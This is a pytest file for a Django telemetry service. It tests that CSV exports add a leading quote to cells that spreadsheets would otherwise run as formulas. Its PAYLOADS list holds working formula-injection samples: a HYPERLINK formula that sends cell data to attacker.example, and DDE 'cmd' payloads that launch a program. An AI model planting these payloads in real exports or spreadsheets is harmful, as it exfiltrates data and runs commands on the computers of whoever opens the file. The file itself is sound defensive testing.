"""CSV exports are safe to open in a spreadsheet: no cell runs as a formula.

Written against the documented behaviour of `manage.py export_telemetry --format csv`
(CSV on standard output): a text cell starting with =, +, -, @, a tab or a carriage return
gets a leading single quote, so Excel, LibreOffice and Google Sheets show it as text. Run
as a real process, over a store holding such cells in every text column, and end to end:
a value sent to POST /telemetry by a caller, exported by an administrator.
"""

import csv
import io
import subprocess
import sys

import pytest
from django.core.management import get_commands

from telemetry.backends.csv import CSVBackend
from telemetry.schema import FIELD_TYPES, build_event
from tests.telemetry import servers

pytestmark = pytest.mark.skipif(
    "export_telemetry" not in get_commands(),
    reason="manage.py export_telemetry is not in this tree yet (another branch builds it); "
    "un-skip after the merge",
)

TRIGGERS = ["=", "+", "-", "@", "\t", "\r"]
PAYLOADS = {
    "=": '=HYPERLINK("http://attacker.example/?"&A1,"Click")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t": "\t=1+1",
    "\r": "\r=1+1",
}
TEXT_FIELDS = [
    name
    for name, kind in FIELD_TYPES.items()
    if kind is str and name not in {"event_id", "timestamp", "client_ip"}
]


def export(env: dict) -> list[dict]:
    command = [sys.executable, "manage.py", "export_telemetry", "--format", "csv"]
    result = subprocess.run(command, cwd=servers.ROOT, env=env, capture_output=True, check=True)
    return list(csv.DictReader(io.StringIO(result.stdout.decode(), newline="")))


def test_every_text_cell_that_a_spreadsheet_would_run_is_quoted(tmp_path):
    events = [
        build_event(**{field: f"{PAYLOADS[trigger]} {field}" for field in TEXT_FIELDS})
        for trigger in TRIGGERS
    ]
    events.append(build_event(**{field: f"plain {field}" for field in TEXT_FIELDS}))
    CSVBackend(tmp_path / "csv").write_batch(events)
    # The test settings' environment, with this test's store (tmp_path/csv).
    rows = {row["event_id"]: row for row in export(servers.server_env(tmp_path, port=0))}
    assert len(rows) == len(events)
    for event in events:
        row = rows[event["event_id"]]
        for field in TEXT_FIELDS:
            value = event[field]
            expected = "'" + value if value[0] in TRIGGERS else value
            assert row[field] == expected, (field, value)


def test_a_formula_sent_to_the_telemetry_api_is_exported_as_text(gateway, tmp_path):
    token = {"X-API-Token": gateway.issue_token("csv.tester")}
    body = {"request_id": "csv-injection", "metadata": {"target_service": PAYLOADS["="]}}
    body["metadata"]["endpoint"] = PAYLOADS["@"]
    answer = gateway.post("/telemetry", body, **token, **{"User-Agent": PAYLOADS["+"]})
    assert answer.status_code == 200
    gateway.wait_for_events(lambda e: e["request_id"] == "csv-injection", at_least=1)
    row = next(row for row in export(gateway.env) if row["request_id"] == "csv-injection")
    assert row["target_service"] == "'" + PAYLOADS["="]
    assert row["endpoint"] == "'" + PAYLOADS["@"]
    assert row["user_agent"] == "'" + PAYLOADS["+"]
